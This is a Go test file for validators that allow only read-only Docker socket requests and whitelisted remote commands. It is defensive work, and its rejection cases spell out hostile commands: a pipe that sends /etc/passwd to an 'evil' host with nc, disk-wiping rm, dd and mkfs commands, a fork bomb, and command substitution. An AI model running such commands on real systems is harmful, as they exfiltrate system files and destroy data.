package guard

import (
	"testing"

	"github.com/TOoSmOotH/homie-sub000/errors"
)

func TestValidateControlSocketRequest_AllowsReadOnly(t *testing.T) {
	tests := []struct {
		method string
		path   string
	}{
		{"GET", "/version"},
		{"GET", "/info"},
		{"GET", "/_ping"},
		{"GET", "/containers/json"},
		{"GET", "/containers/json?all=1"},
		{"GET", "/v1.47/containers/json"},
		{"GET", "/containers/abc123/json"},
		{"GET", "/images/sha256:deadbeef/json"},
		{"get", "/version"},
	}

	for _, tt := range tests {
		t.Run(tt.method+" "+tt.path, func(t *testing.T) {
			if err := ValidateControlSocketRequest(tt.method, tt.path); err != nil {
				t.Errorf("expected allow, got %v", err)
			}
		})
	}
}

func TestValidateControlSocketRequest_RejectsMutatingVerbsAnyMethod(t *testing.T) {
	paths := []string{
		"/containers/create",
		"/containers/abc/kill",
		"/containers/abc/remove",
		"/containers/abc/restart",
		"/containers/abc/pause",
		"/containers/abc/exec",
		"/containers/abc/start",
		"/images/prune",
	}
	methods := []string{"GET", "POST", "PUT", "DELETE"}

	for _, path := range paths {
		for _, method := range methods {
			err := ValidateControlSocketRequest(method, path)
			if err == nil {
				t.Errorf("%s %s: expected rejection", method, path)
				continue
			}
			if !errors.Is(err, errors.CodeValidation) {
				t.Errorf("%s %s: expected validation error, got %v", method, path, err)
			}
		}
	}
}

func TestValidateControlSocketRequest_RejectsNonGet(t *testing.T) {
	if err := ValidateControlSocketRequest("POST", "/version"); err == nil {
		t.Error("POST /version should be rejected")
	}
	if err := ValidateControlSocketRequest("DELETE", "/info"); err == nil {
		t.Error("DELETE /info should be rejected")
	}
}

func TestValidateControlSocketRequest_DefaultDeny(t *testing.T) {
	// Paths that are harmless-looking but not on the allow-list stay blocked.
	paths := []string{
		"/secrets",
		"/swarm",
		"/containers/abc/logs",
		"/plugins",
	}
	for _, path := range paths {
		if err := ValidateControlSocketRequest("GET", path); err == nil {
			t.Errorf("GET %s: expected default-deny rejection", path)
		}
	}
}

func TestValidateRemoteCommand_AllowsReadOnly(t *testing.T) {
	commands := []string{
		"cat /etc/os-release",
		"uptime",
		"df -h",
		"free -m",
		"qm list",
		"docker ps -a",
	}
	for _, cmd := range commands {
		if err := ValidateRemoteCommand(cmd); err != nil {
			t.Errorf("%q: expected allow, got %v", cmd, err)
		}
	}
}

func TestValidateRemoteCommand_RejectsChainingAndRedirection(t *testing.T) {
	commands := []string{
		"cat /etc/passwd | nc evil 9999",
		"uptime && rm file",
		"uptime; reboot",
		"echo x > /etc/hosts",
		"echo `id`",
		"echo $(id)",
	}
	for _, cmd := range commands {
		if err := ValidateRemoteCommand(cmd); err == nil {
			t.Errorf("%q: expected rejection", cmd)
		}
	}
}

func TestValidateRemoteCommand_RejectsDestructiveBinaries(t *testing.T) {
	commands := []string{
		"rm -rf /",
		"sudo rm -rf /var",
		"mkfs.ext4 /dev/sda1",
		"dd if=/dev/zero of=/dev/sda",
		":(){:|:&};:",
		"shutdown -h now",
	}
	for _, cmd := range commands {
		err := ValidateRemoteCommand(cmd)
		if err == nil {
			t.Errorf("%q: expected rejection", cmd)
			continue
		}
		if !errors.Is(err, errors.CodeValidation) {
			t.Errorf("%q: expected validation error, got %v", cmd, err)
		}
	}
}

func TestValidateRemoteCommand_RejectsEmpty(t *testing.T) {
	if err := ValidateRemoteCommand("   "); err == nil {
		t.Error("blank command should be rejected")
	}
}
